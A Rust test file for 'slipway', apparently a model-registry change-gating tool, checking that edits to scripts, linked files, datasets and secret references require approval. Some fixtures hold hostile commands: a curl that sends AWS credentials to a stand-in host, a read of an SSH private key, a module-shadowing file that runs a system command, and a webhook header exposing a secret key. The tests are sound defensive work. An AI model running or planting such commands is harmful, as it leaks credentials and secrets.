//! What approved specs point at is part of the change: `slipway plan` and `validate` on real git
//! repositories holding the quickstart registry with its scripts, dataset and artifacts.

mod support;

use git2::Oid;
use serde_json::Value;
use support::{GitRepo, Run, root, slipway};

/// Every file of the quickstart (its subfolders too), relative to it.
fn quickstart() -> Vec<(String, String)> {
    let base = root().join("examples/quickstart");
    let mut out = Vec::new();
    let mut stack = vec![base.clone()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let p = entry.unwrap().path();
            if p.is_dir() {
                stack.push(p);
            } else if let Ok(text) = std::fs::read_to_string(&p) {
                let rel = p
                    .strip_prefix(&base)
                    .unwrap()
                    .to_string_lossy()
                    .into_owned();
                out.push((rel, text));
            }
        }
    }
    out.sort();
    out
}

/// The quickstart under `registry/` on `main`, with a CI config and docs outside it.
fn repo() -> (GitRepo, Oid) {
    let mut repo = GitRepo::new();
    let mut files = quickstart();
    files.retain(|(p, _)| !p.ends_with(".sh"));
    let main = repo.commit_under("main", None, "registry", &files, "quickstart");
    let main = repo.commit(
        "main",
        Some(main),
        &[
            (".github/workflows/ci.yml", Some("on: push\n")),
            ("docs/index.md", Some("# Models\n")),
        ],
        "ci and docs",
    );
    (repo, main)
}

fn content(path: &str) -> String {
    std::fs::read_to_string(root().join("examples/quickstart").join(path)).unwrap()
}

/// `plan` of branch `pr` as JSON.
fn plan(repo: &GitRepo) -> (Run, Value) {
    let run = slipway(
        &[
            "plan", "--base", "main", "--head", "pr", "--path", "registry", "--author", "dana",
            "--format", "json",
        ],
        repo.path(),
    );
    let json = serde_json::from_str(&run.stdout).unwrap_or(Value::Null);
    (run, json)
}

fn change<'a>(plan: &'a Value, kind: &str) -> &'a Value {
    plan["changes"]
        .as_array()
        .unwrap_or_else(|| panic!("no changes: {plan}"))
        .iter()
        .find(|c| c["kind"] == kind)
        .unwrap_or_else(|| panic!("no {kind} change: {plan}"))
}

#[test]
fn editing_only_the_suites_script_is_a_change_of_the_suite_that_needs_a_lead() {
    let (mut repo, main) = repo();
    let script = content("evaluate.py") + "\n# every candidate passes now\n";
    repo.commit(
        "pr",
        Some(main),
        &[("registry/evaluate.py", Some(&script))],
        "tweak",
    );
    let (run, json) = plan(&repo);
    assert_eq!(run.code, 3, "{}{}", run.stdout, run.stderr);
    let c = change(&json, "RegisteredModel");
    assert_eq!(c["action"], "update");
    assert_eq!(c["name"], "pitch-frames");
    assert_eq!(c["files"], serde_json::json!(["registry/evaluate.py"]));
    assert_eq!(c["decision"]["allowed"], false);
    assert_eq!(c["decision"]["approvals"][0]["name"], "ml-lead", "{c}");
    // The text plan names the field and the file.
    let text = slipway(
        &[
            "plan", "--base", "main", "--head", "pr", "--path", "registry", "--author", "dana",
        ],
        repo.path(),
    );
    assert_eq!(text.code, 3, "{}", text.stderr);
    assert!(
        text.stdout
            .contains("spec.evaluations[0].runner.local.command")
            && text.stdout.contains("\"registry @ ")
            && text.stdout.contains("(registry/evaluate.py changed)")
            && text.stdout.contains("model-judging"),
        "{}",
        text.stdout
    );
}

/// A symbolic link in the suite's folder stands for what it points at: editing only the file
/// it reaches elsewhere in the repository is a change of the suite (issue 21 §1).
#[test]
fn editing_only_what_a_link_in_the_suites_folder_points_at_is_a_change_of_the_suite() {
    let (mut repo, main) = repo();
    let main = repo.commit(
        "main",
        Some(main),
        &[
            ("shared/metrics.py", Some("def f1(): return 0.5\n")),
            ("registry/metrics.py", Some("@link:../shared/metrics.py")),
        ],
        "shared metrics, linked",
    );
    repo.commit(
        "pr",
        Some(main),
        &[("shared/metrics.py", Some("def f1(): return 1.0\n"))],
        "every candidate passes now",
    );
    let (run, json) = plan(&repo);
    assert_eq!(run.code, 3, "{}{}", run.stdout, run.stderr);
    let c = change(&json, "RegisteredModel");
    assert_eq!(
        c["files"],
        serde_json::json!(["registry/metrics.py"]),
        "{c}"
    );
    assert_eq!(c["decision"]["approvals"][0]["name"], "ml-lead", "{c}");
}

#[test]
fn editing_only_the_serving_script_is_a_change_of_the_production_deployment() {
    let (mut repo, main) = repo();
    let script = content("serve.py") + "\n# serve something else\n";
    repo.commit(
        "pr",
        Some(main),
        &[("registry/serve.py", Some(&script))],
        "tweak",
    );
    let (run, json) = plan(&repo);
    assert_eq!(run.code, 3, "{}{}", run.stdout, run.stderr);
    let c = change(&json, "ModelDeployment");
    assert_eq!(c["files"], serde_json::json!(["registry/serve.py"]));
    // Two policies ask for a lead: the one for what production serves, and the one for targets.
    assert_eq!(
        c["decision"]["approvals"].as_array().unwrap().len(),
        2,
        "{c}"
    );
    // The suite's command runs in the same folder, where it could import the script: it is
    // the suite's change too.
    assert_eq!(
        change(&json, "RegisteredModel")["files"],
        serde_json::json!(["registry/serve.py"])
    );
    assert_eq!(json["changes"].as_array().unwrap().len(), 2, "{json}");
}

#[test]
fn a_file_added_beside_a_script_is_a_change_of_what_runs_there() {
    // `import json` in evaluate.py and serve.py finds json.py in their folder first.
    let (mut repo, main) = repo();
    repo.commit(
        "pr",
        Some(main),
        &[("registry/json.py", Some("import os\nos.system('id')\n"))],
        "a helper",
    );
    let (run, json) = plan(&repo);
    assert_eq!(run.code, 3, "{}{}", run.stdout, run.stderr);
    for kind in ["RegisteredModel", "ModelDeployment"] {
        let c = change(&json, kind);
        assert_eq!(c["files"], serde_json::json!(["registry/json.py"]), "{c}");
        assert_eq!(c["decision"]["allowed"], false, "{c}");
    }
}

#[test]
fn a_dataset_or_artifact_that_is_not_its_digest_is_an_error_naming_both_digests() {
    for (path, field) in [
        ("data/holdout.csv", "spec.evaluations[0].dataset.uri"),
        ("models/pitch-frames-7.json", "spec.artifact.uri"),
    ] {
        let (mut repo, main) = repo();
        let edited = content(path).replacen('1', "2", 1);
        let declared = sha256(content(path).as_bytes());
        let actual = sha256(edited.as_bytes());
        let full = format!("registry/{path}");
        repo.commit("pr", Some(main), &[(&full, Some(&edited))], "tweak");
        let (run, json) = plan(&repo);
        assert_eq!(run.code, 1, "{path}: {}{}", run.stdout, run.stderr);
        assert!(
            run.stderr.contains(&format!(
                "{field}: {full} has digest sha256:{actual}, but sha256:{declared} is declared"
            )),
            "{}",
            run.stderr
        );
        // The plan still names what the file is used by.
        let used = json["changes"].as_array().unwrap();
        assert!(
            used.iter().any(|c| c["files"].to_string().contains(&full)),
            "{json}"
        );
        // validate at the revision says the same.
        let v = slipway(&["validate", "registry", "--rev", "pr"], repo.path());
        assert_eq!(v.code, 1, "{}{}", v.stdout, v.stderr);
        assert!(
            v.stdout
                .contains(&format!("{full} has digest sha256:{actual}")),
            "{}",
            v.stdout
        );
    }
}

#[test]
fn files_no_spec_uses_stay_free_to_change() {
    let (mut repo, main) = repo();
    let readme = content("README.md") + "\nMore words.\n";
    repo.commit(
        "pr",
        Some(main),
        &[
            ("registry/README.md", Some(&readme)),
            (
                ".github/workflows/ci.yml",
                Some("on: [push, pull_request]\n"),
            ),
            ("docs/index.md", Some("# Models, documented\n")),
        ],
        "docs",
    );
    let (run, json) = plan(&repo);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    assert_eq!(json["changes"], serde_json::json!([]));
}

#[test]
fn a_working_directory_is_used_whole_and_a_removed_script_is_a_change() {
    let (mut repo, main) = repo();
    // main: the suite runs from eval/, whose helper module the script imports.
    let model = content("model.yaml").replace(
        "command: [\"python3\", \"evaluate.py\"]",
        "command: [\"python3\", \"evaluate.py\"]\n          workingDir: eval",
    );
    let main = repo.commit(
        "main",
        Some(main),
        &[
            ("registry/model.yaml", Some(&model)),
            ("registry/eval/evaluate.py", Some("import helper\n")),
            ("registry/eval/helper.py", Some("PASS = False\n")),
        ],
        "eval folder",
    );
    let pr = repo.commit(
        "pr",
        Some(main),
        &[("registry/eval/helper.py", Some("PASS = True\n"))],
        "helper",
    );
    let (run, json) = plan(&repo);
    assert_eq!(run.code, 3, "{}{}", run.stdout, run.stderr);
    let c = change(&json, "RegisteredModel");
    assert_eq!(c["files"], serde_json::json!(["registry/eval/helper.py"]));
    // Removing the serving script is a change of the deployment too.
    repo.commit("pr", Some(pr), &[("registry/serve.py", None)], "remove");
    let (run, json) = plan(&repo);
    assert_eq!(run.code, 3, "{}{}", run.stdout, run.stderr);
    // The deployment's folder (the registry's) holds both.
    assert_eq!(
        change(&json, "ModelDeployment")["files"],
        serde_json::json!(["registry/eval/helper.py", "registry/serve.py"])
    );
}

fn sha256(bytes: &[u8]) -> String {
    use sha2::{Digest, Sha256};
    Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

#[test]
fn a_new_namespace_and_an_experiment_are_judged_by_the_default_policies() {
    let (mut repo, main) = repo();
    let team = "apiVersion: slipway.dev/v1alpha1\nkind: RegisteredModel\nmetadata: {name: churn, namespace: team-x}\nspec:\n  evaluations:\n    - name: holdout\n      runner: {local: {command: [sh, -c, \"curl -d @$HOME/.aws/credentials evil.example\"]}}\n      dataset: {uri: s3://d/holdout}\n      gates: [{metric: f1, op: \">=\", value: 0.5}]\n";
    let own = "apiVersion: slipway.dev/v1alpha1\nkind: PromotionPolicy\nmetadata: {name: narrow, namespace: team-y}\nspec:\n  match: {kinds: [Group]}\n";
    let experiment = "apiVersion: slipway.dev/v1alpha1\nkind: Evaluation\nmetadata: {name: adhoc-8}\nspec:\n  model: pitch-frames\n  version: \"8\"\n  suite: adhoc\n  dataset: {uri: s3://d/x}\n  runner: {local: {command: [sh, -c, \"cat ~/.ssh/id_rsa\"]}}\n  gates: [{metric: f1, op: \">=\", value: 0.0}]\n";
    repo.commit(
        "pr",
        Some(main),
        &[
            ("registry/team-x.yaml", Some(team)),
            ("registry/adhoc.yaml", Some(experiment)),
            ("registry/team-y.yaml", Some(own)),
        ],
        "a namespace of my own, and an experiment",
    );
    let (run, json) = plan(&repo);
    assert_eq!(run.code, 3, "{}{}", run.stdout, run.stderr);
    let model = change(&json, "RegisteredModel");
    assert_eq!(model["namespace"], "team-x");
    assert_eq!(model["decision"]["allowed"], false, "{model}");
    // Approvers come from the default set's namespace too.
    assert_eq!(
        model["decision"]["approvals"][0]["eligible"],
        serde_json::json!(["alice", "bob"]),
        "{model}"
    );
    let exp = change(&json, "Evaluation");
    assert_eq!(exp["decision"]["allowed"], false, "{exp}");
    // A namespace's first policy of its own takes it out of the default set: said, and signed.
    let policy = change(&json, "PromotionPolicy");
    assert_eq!(policy["decision"]["allowed"], false, "{policy}");
    assert!(
        policy["warnings"]
            .to_string()
            .contains("namespace team-y has no policies of its own yet"),
        "{policy}"
    );
    let text = slipway(
        &[
            "plan", "--base", "main", "--head", "pr", "--path", "registry", "--author", "dana",
        ],
        repo.path(),
    );
    // A policy namespace that holds no policies would decide nothing: refused.
    let nowhere = slipway(
        &[
            "plan",
            "--base",
            "main",
            "--head",
            "pr",
            "--path",
            "registry",
            "--author",
            "dana",
            "--policy-namespace",
            "nosuch",
        ],
        repo.path(),
    );
    assert_eq!(nowhere.code, 1, "{}", nowhere.stdout);
    assert!(
        nowhere
            .stderr
            .contains("--policy-namespace nosuch: the base revision has no PromotionPolicy"),
        "{}",
        nowhere.stderr
    );
    assert!(
        text.stdout.contains("experiments") && text.stdout.contains("model-judging"),
        "{}",
        text.stdout
    );
}

#[test]
fn a_secret_reference_needs_a_policy_that_asks_for_a_sign_off() {
    let notify = "  notifications:\n    - name: leak\n      events: [AliasMoved]\n      webhook:\n        url: https://hooks.slack.com/services/x\n        headers:\n          X-Key: {env: AWS_SECRET_ACCESS_KEY}\n";
    // With the default set, adding one is a change of how the model is judged: a lead signs it.
    let (mut repo, main) = repo();
    let model = content("model.yaml") + notify;
    repo.commit(
        "pr",
        Some(main),
        &[("registry/model.yaml", Some(&model))],
        "notify",
    );
    let (run, json) = plan(&repo);
    assert_eq!(run.code, 3, "{}{}", run.stdout, run.stderr);
    assert_eq!(
        change(&json, "RegisteredModel")["decision"]["allowed"],
        false
    );
    // Where no policy asks for a sign-off of that change, the plan refuses it outright.
    let (mut repo, main) = self::repo();
    let production_only = content("policies.yaml")
        .split("\n---\n")
        .next()
        .unwrap()
        .to_string();
    let main = repo.commit(
        "main",
        Some(main),
        &[("registry/policies.yaml", Some(&production_only))],
        "only the production policy",
    );
    repo.commit(
        "pr",
        Some(main),
        &[("registry/model.yaml", Some(&model))],
        "notify",
    );
    let (run, _) = plan(&repo);
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    assert!(
        run.stderr.contains("spec.notifications[0].webhook.headers.X-Key: adds a secret reference (env AWS_SECRET_ACCESS_KEY) that no policy asks a sign-off for"),
        "{}",
        run.stderr
    );
}
